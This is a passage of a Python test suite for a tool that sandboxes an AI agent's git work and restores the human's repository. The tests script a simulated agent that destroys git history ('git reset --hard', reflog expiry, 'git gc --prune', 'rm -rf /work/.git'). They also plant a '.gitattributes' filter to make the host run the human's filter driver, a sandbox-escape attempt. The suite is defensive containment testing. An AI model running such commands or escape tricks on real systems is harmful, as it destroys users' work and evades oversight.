    result = started(scene)
    assert "snapshot" in squash(result.stderr), result.describe()
    vandal = scene.inside(
        "git reset -q --hard HEAD~3 && git branch -f side HEAD && git tag -d v1"
        " && git reflog expire --expire=now --all && git gc -q --prune=now"
        " && rm -rf /work/.git; rm -f notes.txt; echo agent > file2.txt"
        ' && printf "#!/bin/sh\\ntouch %s\\n" "$MARKER" > file3.txt'
    )
    assert vandal.returncode == 0, vandal.describe()
    # Its own git directory went; the human's history is all there.
    assert "commit 4" in scene.git("log", "--all", "--format=%s")
    synced = stack.cli.run("sync", scene.name)
    assert synced.returncode == 1, synced.describe()
    assert "Traceback" not in synced.output, synced.describe()
    assert "stop it first" in stack.cli.fails("restore", scene.name).output
    stopped = stack.cli.ok("stop", scene.name)
    assert "could not be brought back" in squash(stopped.output), stopped.describe()
    restored = stack.cli.ok("restore", scene.name)
    assert "restored" in restored.stdout, restored.describe()
    assert repository_state(scene) == before
    assert (scene.repo / "file2.txt").read_text(encoding="utf-8") == "version 2\n"
    assert "error" not in scene.human("fsck").lower()
    kinds = [item["kind"] for item in stack.cli.json("restore", scene.name, "--list", "--json")]
    assert sorted(kinds) == ["before-restore", "start"]
    no_escape(scene, restored.output + human_battery(scene))


# -- a worktree cloister written afresh --------------------------------------------------------


def test_a_fresh_worktree_runs_no_filter_of_yours(stack: Stack, scene_of: list[Scene]) -> None:
    """A worktree cloister whose directory is empty at start is written from its branch,
    the agent's commits: the agent's .gitattributes picks the human's filter driver."""
    scene = fresh(stack, scene_of, "wt")
    name = f"{scene.name}-feature"
    started(scene, "-b", "feature", name=name)
    planted = scene.inside(
        "echo '*.txt filter=probe' > .gitattributes && echo payload > x.txt"
        " && git add .gitattributes x.txt && git commit -qm agent"
        " && rm -rf /work/* /work/.gitattributes",
        name=name,
    )
    assert planted.returncode == 0, planted.describe()
    stack.cli.ok("stop", name)
    assert scene.git("log", "-1", "--format=%s", "feature") == "agent"
    again = started(scene, "-b", "feature", name=name)
    assert "Traceback" not in again.output, again.describe()
    assert exec_ok(name, "cat x.txt").stdout == "payload\n"
    no_escape(scene, again.output)
